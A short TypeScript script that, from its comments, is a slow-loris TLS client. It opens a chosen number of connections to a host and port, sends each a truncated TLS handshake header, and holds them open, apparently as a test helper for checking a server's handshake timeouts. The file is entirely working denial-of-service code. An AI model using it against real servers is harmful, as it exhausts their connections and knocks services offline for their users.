/**
 * A slow-loris TLS client: run as `half-open.ts HOST PORT COUNT` in the Docker host's network
 * namespace, it opens COUNT connections to HOST:PORT, sends each the first bytes of a TLS record
 * (a handshake record header announcing a ClientHello that never comes) and holds them. Prints
 * `open N` once N connections are established (and `closed M` as the server drops them).
 */
import { Socket, connect } from 'node:net';

const [host, port, count] = [process.argv[2], Number(process.argv[3]), Number(process.argv[4])];
const sockets: Socket[] = [];
let open = 0;
let closed = 0;

for (let i = 0; i < count; i++) {
  const socket = connect({ host, port }, () => {
    // ContentType handshake (22), TLS 1.0 record version, length 512: and then nothing.
    socket.write(Buffer.from([0x16, 0x03, 0x01, 0x02, 0x00]));
    if (++open === count) console.log(`open ${open}`);
  });
  socket.on('error', () => undefined);
  socket.on('close', () => console.log(`closed ${++closed}`));
  sockets.push(socket);
}
setInterval(() => undefined, 1 << 30);
